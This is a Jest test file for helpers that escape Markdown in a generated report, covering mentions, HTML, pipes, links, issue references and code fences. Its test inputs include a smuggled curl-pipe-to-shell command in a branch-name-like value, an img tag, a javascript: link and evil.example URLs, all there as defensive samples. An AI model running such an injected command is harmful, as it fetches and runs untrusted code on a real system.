import { describe, expect, it } from '@jest/globals'
import { escapeMarkdownText, markdownCode, markdownFence } from '../../src/report/escape.js'

describe('escapeMarkdownText', () => {
  it('neutralises mentions, HTML, table pipes and shell-looking branch names', () => {
    expect(escapeMarkdownText('@org/team <img src=x> | broken')).toBe(
      '@\u200borg/team &lt;img src=x&gt; &#124; broken'
    )
    expect(escapeMarkdownText('"; curl evil | sh; #\nnext')).toBe('"; curl evil &#124; sh; # next')
  })

  it('leaves no image, link, code span, issue reference or line break', () => {
    const out = escapeMarkdownText(
      '![x](https://evil.example/t.png) [click](javascript:x) `code` fixes #123\r\n\u2028**b**'
    )
    expect(out).not.toMatch(/[[\]`\n\r\u2028*]/)
    expect(out).toContain('!&#91;x&#93;(https:/\u200b/evil.example/t.png)')
    expect(out).toContain('#\u200b123')
    expect(escapeMarkdownText('a\\|b')).toBe('a&#92;&#124;b')
  })

  it('leaves no bare URL for GitHub to link on its own', () => {
    expect(escapeMarkdownText('see https://evil.example or WWW.evil.example')).toBe(
      'see https:/\u200b/evil.example or WWW\u200b.evil.example'
    )
  })
})

describe('markdownCode and markdownFence', () => {
  it('uses a code span only for text that cannot leave it', () => {
    expect(markdownCode('latency.p99')).toBe('`latency.p99`')
    expect(markdownCode('x` <img src=y> `')).toBe('x&#96; &lt;img src=y&gt; &#96;')
    expect(markdownCode('a|b')).toBe('a&#124;b')
    expect(markdownCode('a\nb')).toBe('a b')
  })

  it('fences text with a fence longer than any backtick run in it', () => {
    expect(markdownFence(['ok'])).toEqual(['```text', 'ok', '```'])
    expect(markdownFence(['```', 'x ````` y'])).toEqual(['``````text', '```', 'x ````` y', '``````'])
    expect(markdownFence(['a\nb'])).toEqual(['```text', 'a', 'b', '```'])
  })
})
